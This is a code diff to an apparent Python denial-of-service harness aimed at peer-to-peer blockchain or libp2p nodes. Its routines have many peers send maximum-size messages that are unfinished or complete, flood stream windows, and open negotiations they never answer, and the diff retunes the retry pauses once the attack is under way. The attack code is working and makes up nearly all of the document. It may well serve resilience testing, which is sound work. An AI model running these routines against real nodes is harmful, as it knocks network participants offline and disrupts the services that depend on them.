@@ -57,7 +57,9 @@ TRICKLED = 8
 RESPONSE_HEAD, IDENTIFIER, CHUNK = 5, 10, 1 << 16
 """Bytes of a response before its snappy stream, of the identifier at the start of that, and of its chunks."""
 
-_RETRY_SECONDS = 0.2
+_RETRY_SECONDS, _REPLACE_SECONDS = 0.2, 1.0
+"""The pause before the next attempt of a peer, until the attack is under way and from then on."""
+
 _IDENTITIES = itertools.count(1)
 
 
@@ -70,6 +72,11 @@ class Target:
         self.address, self.peer, self.port = parsed, parsed.peer_id, parsed.tcp.port
         self.discovery_port = discovery_port
         self._wanted, self._effects = 0, 0
+
+    @property
+    def retry_seconds(self) -> float:
+        """The pause of a peer that was interrupted."""
+        return _RETRY_SECONDS if self._effects < self._wanted else _REPLACE_SECONDS
 
     def expect(self, effects: int) -> None:
         """The attack is under way after so many effects."""
@@ -90,12 +97,12 @@ def new_identity() -> NetworkIdentity:
     return NetworkIdentity(b"\x7f" + os.getpid().to_bytes(8, "big") + next(_IDENTITIES).to_bytes(23, "big"))
 
 
-async def forever(attempt: Callable[[], Awaitable[None]]) -> None:
+async def forever(target: Target, attempt: Callable[[], Awaitable[None]]) -> None:
     """Repeats what the other end interrupts."""
     while True:
         with contextlib.suppress(StreamError, DialError, ConnectionError, TimeoutError):
             await attempt()
-        await asyncio.sleep(_RETRY_SECONDS)
+        await asyncio.sleep(target.retry_seconds)
 
 
 async def by_many(
@@ -104,7 +111,7 @@ async def by_many(
     """Makes an attempt by many peers at once, over and over; the attack is under way after so many effects, as many as
     there are peers unless given."""
     target.expect(peers if effects is None else effects)
-    await asyncio.gather(*(forever(attempt) for _ in range(peers)))
+    await asyncio.gather(*(forever(target, attempt) for _ in range(peers)))
 
 
 @contextlib.asynccontextmanager
@@ -147,12 +154,13 @@ async def open_gossip(host: Host, peer: PeerId) -> Stream:
 
 async def stalled_messages(target: Target) -> None:
     """Each peer sends all but the last byte of the largest message."""
+    incomplete = varint.encode(MAX_RPC_BYTES) + bytes(MAX_RPC_BYTES - 1)
 
     async def attempt() -> None:
         async with connected_host(target) as host:
             stream = await open_gossip(host, target.peer)
             try:
-                await stream.write(varint.encode(MAX_RPC_BYTES) + bytes(MAX_RPC_BYTES - 1))
+                await stream.write(incomplete)
             finally:
                 target.effect()
             await stream.read()
@@ -180,14 +188,14 @@ async def trickled_messages(target: Target) -> None:
 
 async def completed_messages(target: Target) -> None:
     """Each peer completes a message of the largest size, an unknown field, and sends nothing more."""
-    body = bytes(MAX_RPC_BYTES - 8)
-    message = protobuf.bytes_field(15, body)
+    field = protobuf.bytes_field(15, bytes(MAX_RPC_BYTES - 8))
+    message = varint.encode(len(field)) + field
 
     async def attempt() -> None:
         async with connected_host(target) as host:
             stream = await open_gossip(host, target.peer)
             try:
-                await stream.write(varint.encode(len(message)) + message)
+                await stream.write(message)
             finally:
                 target.effect()
             await stream.read()
@@ -259,19 +267,22 @@ async def huge_blocks(target: Target) -> None:
 
 async def unread_streams(target: Target) -> None:
     """Each peer fills the windows of streams whose requests wait for their turn."""
+    size = (1 << 18) - 200
+    streams = [
+        proposal(number, SYNC_PROTOCOL) + frame(DATA, 0, number, size, bytes(size)) for number in range(1, 4 * FULL, 2)
+    ]
 
     async def attempt() -> None:
         async with raw_peer(target.port, identity=new_identity()) as peer:
-            size = (1 << 18) - 200
-            for number in range(1, 2 * FULL, 2):
-                await peer.send(proposal(number, SYNC_PROTOCOL) + frame(DATA, 0, number, size, bytes(size)))
+            for each in streams[:FULL]:
+                await peer.send(each)
             try:
                 await peer.ping()
             finally:
                 # A peer that lost its connection held more than its share.
                 target.effect()
-            for number in range(2 * FULL + 1, 4 * FULL, 2):
-                await peer.send(proposal(number, SYNC_PROTOCOL) + frame(DATA, 0, number, size, bytes(size)))
+            for each in streams[FULL:]:
+                await peer.send(each)
             await peer.is_disconnected(60)
 
     await by_many(target, attempt, effects=PEERS // 2)
@@ -310,7 +321,7 @@ async def reset_streams(target: Target) -> None:
 async def unanswered_negotiations(target: Target) -> None:
     """Each peer opens streams and never proposes a protocol, or proposes unknown ones only."""
     unknown = encode_line("/" + "x" * 1000)
-    lines = encode_line(HEADER) + unknown * 60
+    lines = encode_line(HEADER) + unknown * 20
 
     async def attempt() -> None:
         async with raw_peer(target.port, identity=new_identity()) as peer:
